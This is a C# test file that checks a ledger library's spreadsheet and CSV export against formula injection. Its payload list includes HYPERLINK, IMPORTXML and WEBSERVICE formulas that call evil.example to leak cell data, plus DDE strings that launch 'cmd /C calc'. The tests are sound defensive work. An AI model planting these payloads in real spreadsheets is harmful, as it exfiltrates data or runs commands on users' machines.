using System.Text;
using BatchLedger.Spreadsheets;
using static BatchLedger.Tests.Spreadsheets.Workbooks;

namespace BatchLedger.Tests.Spreadsheets;

/// <summary>Formula injection: what a member may type as a name must reach an accountant's screen as that name.</summary>
public class InjectionTests
{
    private static readonly string[] Attacks =
    [
        "1+1", "HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "cmd|' /C calc'!A0", "IMPORTXML(\"http://evil.example\",\"//a\")",
        "WEBSERVICE(\"http://evil.example\")", "SUM(1+1)*cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")",
    ];

    private static readonly string[] Openings =
        ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", " =", "＝", "＋", "－", "＠", "\u200B=", "\uFEFF=", "\u00A0@", "−"];

    public static IEnumerable<string> Payloads => Openings.SelectMany(opening => Attacks.Select(attack => opening + attack));

    [Fact, Trait("Convention", "X18")]
    public void No_text_becomes_a_formula_in_any_text_cell()
    {
        Assert.True(Payloads.Count() > 60);
        var file = Written(book =>
        {
            var sheet = book.Table(Ledger());
            foreach (var payload in Payloads) sheet.Row().Text(payload).Text(payload).Blank().Amount(-5).Amount(-5);
        });

        Assert.Empty(Faults(file));
        var cells = Sheet(file).Descendants(Main + "row").Skip(1).Take(Payloads.Count()).ToList();
        Assert.All(cells.Zip(Payloads), pair =>
        {
            var texts = pair.First.Elements().Take(2).ToList();
            Assert.All(texts, cell => Assert.Equal("inlineStr", (string)cell.Attribute("t")!));
            Assert.All(texts, cell => Assert.Equal("1", (string?)Look(file, cell).Attribute("quotePrefix")));
            Assert.All(texts, cell => Assert.Equal(pair.Second.Replace("\0", ""), cell.Value));
            Assert.Empty(pair.First.Descendants(Main + "f"));
            Assert.Equal(["-0.05", "-0.05"], pair.First.Elements().Skip(3).Select(cell => cell.Element(Main + "v")!.Value));
        });
    }

    [Fact, Trait("Convention", "X18")]
    public void No_text_becomes_a_formula_in_headers_labels_names_and_properties()
    {
        foreach (var payload in Payloads)
        {
            var file = Written(book =>
            {
                book.Table(new(payload, payload, [SheetColumn.Text(payload, 10), SheetColumn.Text(payload, 10)])).Row().Text("x");
                book.Plain(new(payload, [10, 10])).Title(payload).Pair(payload, payload).Heading(payload).Row().Label(payload).Note(payload);
            }, Properties with { Title = payload, PrintHeader = payload, PrintFooter = payload, Custom = new Dictionary<string, string> { ["Batch"] = payload } });

            Assert.Empty(Faults(file));
            Assert.Empty(Sheet(file).Descendants(Main + "f"));
            Assert.Empty(Sheet(file, 2).Descendants(Main + "f"));
            Assert.All(Sheet(file, 2).Descendants(Main + "c").Where(cell => cell.HasElements), cell => Assert.Equal("1", (string?)Look(file, cell).Attribute("quotePrefix")));
        }
    }

    [Theory, Trait("Convention", "X18")]
    [InlineData("Dues")]
    [InlineData("a=b")]
    [InlineData("12-34")]
    [InlineData("(5)")]
    [InlineData("É-mail")]
    public void An_innocent_text_is_left_alone(string text)
    {
        var file = Written(book => book.Table(Ledger()).Row().Text(text));

        Assert.Null(Look(file, Cell(file, row: 2, column: 0)).Attribute("quotePrefix"));
    }

    [Fact, Trait("Convention", "X18"), Trait("Convention", "X23")]
    public void In_a_CSV_each_payload_gets_an_apostrophe_and_an_amount_never_does()
    {
        using var file = new MemoryStream();
        using (var csv = new CsvWriter(file, ["Text", "Amount"]))
            foreach (var payload in Payloads) csv.Row().Text(payload).Amount(-5, 2);

        var lines = Payloads.Select(payload => $"{Quoted("'" + payload.Replace("\0", ""))},-0.05\r\n");
        Assert.Equal("Text,Amount\r\n" + string.Concat(lines), Encoding.UTF8.GetString(file.ToArray()[3..]));
    }

    private static string Quoted(string field) => field.IndexOfAny([',', ';', '"', '\t', '\r', '\n']) < 0 ? field : $"\"{field.Replace("\"", "\"\"")}\"";
}
